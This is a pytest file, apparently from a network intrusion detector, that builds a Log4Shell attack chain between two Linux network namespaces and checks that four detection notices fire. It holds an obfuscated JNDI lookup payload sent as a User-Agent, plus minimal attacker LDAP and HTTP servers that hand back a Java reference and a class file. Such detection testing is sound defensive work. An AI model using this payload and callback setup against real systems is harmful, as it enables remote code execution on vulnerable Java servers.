"""A Log4Shell chain made by real processes over a real kernel TCP stack in two network
namespaces, captured from a packet socket and replayed through the detectors: the attacker's
HTTP request carries an obfuscated lookup, the victim's stand-in JVM calls back to the
attacker's LDAP server (which answers with a Java reference) and fetches the class over HTTP
with a Java user agent."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from tests.detect import wire
from tests.detect.replay import replay

# Every behaviour here holds on the compiled common case and on the Python reference alike.
pytestmark = pytest.mark.usefixtures("speedups_off")

ATTACKER, VICTIM = "10.231.0.1", "10.231.0.2"
LOOKUP = "${${lower:j}${::-n}di:ldap://10.231.0.1:1389/Exploit}"

HTTP_SERVER = """
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = bytes.fromhex(sys.argv[1]) if self.path.endswith(".class") else b"hello"
        self.send_response(200)
        self.send_header("Content-Type", "application/java-vm" if self.path.endswith(".class")
                         else "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("0.0.0.0", int(sys.argv[2])), H)
print("ready", flush=True)
s.serve_forever()
"""

LDAP_SERVER = """
import socket, sys
bind_ok, entry = (bytes.fromhex(h) for h in sys.argv[1:3])
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 1389))
s.listen()
print("ready", flush=True)
c, _ = s.accept()
c.recv(4096)
c.sendall(bind_ok)
c.recv(4096)
c.sendall(entry)
c.close()
"""

CLIENT_HTTP = """
import http.client, sys
host, port, path, agent = sys.argv[1:5]
c = http.client.HTTPConnection(host, int(port), timeout=10)
c.request("GET", path, headers={"User-Agent": agent})
c.getresponse().read()
c.close()
"""

# A packet socket capture that ends on a UDP "END" datagram to port 9, so every packet sent
# before it is in the file (dumpcap stopped by a signal may drop its last buffered packets).
CAPTURE = """
import socket, struct, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind(("eth0", 0))
out = open(sys.argv[1], "wb")
out.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
print("ready", flush=True)
while True:
    frame = s.recv(65535)
    t = time.time_ns() // 1000
    out.write(struct.pack("<IIII", t // 1000000, t % 1000000, len(frame), len(frame)) + frame)
    if frame[23:24] == b"\\x11" and frame[36:38] == b"\\x00\\x09" and frame.endswith(b"END"):
        break
out.close()
"""

END = """
import socket, sys
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"END", (sys.argv[1], 9))
"""

JVM_LDAP = """
import socket, sys
bind, search = (bytes.fromhex(h) for h in sys.argv[1:3])
c = socket.create_connection(("10.231.0.1", 1389), timeout=10)
c.sendall(bind)
c.recv(4096)
c.sendall(search)
c.recv(4096)
c.close()
"""


def sh(*args: str) -> None:
    subprocess.run(args, check=True, capture_output=True)


@pytest.fixture
def namespaces(root):
    """Two namespaces joined by a veth pair; removed afterwards whatever happened."""
    att, vic = f"l4sdet{os.getpid()}a", f"l4sdet{os.getpid()}v"
    try:
        for ns in (att, vic):
            sh("ip", "netns", "add", ns)
            sh("ip", "netns", "exec", ns, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1")
            sh("ip", "-n", ns, "link", "set", "lo", "up")
        sh("ip", "-n", att, "link", "add", "eth0", "type", "veth", "peer", "name", "eth0",
           "netns", vic)
        for ns, ip in ((att, ATTACKER), (vic, VICTIM)):
            sh("ip", "-n", ns, "addr", "add", f"{ip}/24", "dev", "eth0")
            sh("ip", "-n", ns, "link", "set", "eth0", "up")
        yield att, vic
    finally:
        for ns in (att, vic):
            subprocess.run(["ip", "netns", "del", ns], capture_output=True)


class Procs:
    """Processes started in namespaces; all stopped at the end."""

    def __init__(self) -> None:
        self.started: list[subprocess.Popen] = []

    def server(self, ns: str, code: str, *args: str) -> subprocess.Popen:
        """Start a server and wait for its "ready" line."""
        proc = self.start(ns, code, *args)
        assert proc.stdout.readline().strip() == "ready"
        return proc

    def start(self, ns: str, code: str, *args: str) -> subprocess.Popen:
        proc = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c", code, *args],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.started.append(proc)
        return proc

    def run(self, ns: str, code: str, *args: str) -> None:
        subprocess.run(["ip", "netns", "exec", ns, sys.executable, "-c", code, *args],
                       check=True, timeout=30, capture_output=True)

    def stop(self) -> None:
        for proc in self.started:
            if proc.poll() is None:
                proc.terminate()
            proc.communicate(timeout=10)


def test_chain_made_by_real_processes_is_one_chain_of_four_stages(namespaces, tmp_path):
    att, vic = namespaces
    pcap = tmp_path / "chain.pcap"
    procs = Procs()
    try:
        capture = procs.server(att, CAPTURE, str(pcap))
        procs.server(vic, HTTP_SERVER, "", "8080")
        procs.server(att, HTTP_SERVER, wire.CLASS_FILE.hex(), "8000")
        ldap = procs.server(att, LDAP_SERVER, wire.bind_response().hex(),
                            (wire.java_reference_entry(b"http://10.231.0.1:8000/")
                             + wire.search_done()).hex())
        procs.run(att, CLIENT_HTTP, VICTIM, "8080", "/", LOOKUP)
        procs.run(vic, JVM_LDAP, wire.bind_request().hex(), wire.search_request(b"Exploit").hex())
        ldap.wait(timeout=10)
        procs.run(vic, CLIENT_HTTP, ATTACKER, "8000", "/Exploit.class", "Java/1.8.0_181")
        procs.run(vic, END, ATTACKER)
        capture.wait(timeout=10)
    finally:
        procs.stop()
    notices = replay(pcap)
    assert sorted(n.note.split("::")[1] for n in notices) == [
        "LOG4J_ATTEMPT_HEADER", "LOG4J_CALLBACK", "LOG4J_JAVA_CLASS_DOWNLOAD", "LOG4J_LDAP_JAVA"]
    assert {(n.extra["chain"], n.extra["attacker"], n.extra["victim"]) for n in notices} == {
        ("log4shell-1", ATTACKER, f"{VICTIM}:8080")}
